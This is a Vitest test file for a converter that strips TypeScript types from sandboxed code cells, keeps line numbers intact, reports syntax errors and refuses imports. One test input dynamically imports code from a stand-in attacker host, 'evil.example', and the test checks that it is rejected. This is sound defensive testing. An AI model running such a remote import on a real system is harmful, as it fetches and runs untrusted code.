import { describe, expect, it } from 'vitest';
import { runCell } from './run-code.ts';
import { toJavaScript } from './to-javascript.ts';

describe('toJavaScript(code) (types stripped outside the sandbox)', () => {
  it('strips types and keeps every line where it was, so runtime errors name the cell line', () => {
    const code =
      'const n: number = 2;\ninterface P { a: number }\nfunction f(x: number[]): number {\n  return (x as any).nope.length;\n}\nf([n])';
    const js = toJavaScript(code);
    if (!js.ok) throw new Error(js.error.message);
    expect(js.code).not.toMatch(/: number|interface/);
    expect(js.code.split('\n')).toHaveLength(code.split('\n').length);
    expect(() => runCell(js.code, [])).toThrow(/line 4: TypeError/);
  });

  it('reports a syntax error with its line, and refuses imports with theirs', () => {
    expect(toJavaScript('const a = 1;\nconst b = ;')).toEqual({
      ok: false,
      error: { message: expect.stringMatching(/^SyntaxError: /), line: 2 },
    });
    expect(toJavaScript('// fine\n  import x from "y";')).toEqual({
      ok: false,
      error: { message: 'code cells cannot import modules: everything a cell needs is already in it', line: 2 },
    });
    expect(toJavaScript('const m = await import("https://evil.example/x.js");')).toMatchObject({ ok: false, error: { line: 1 } });
  });
});
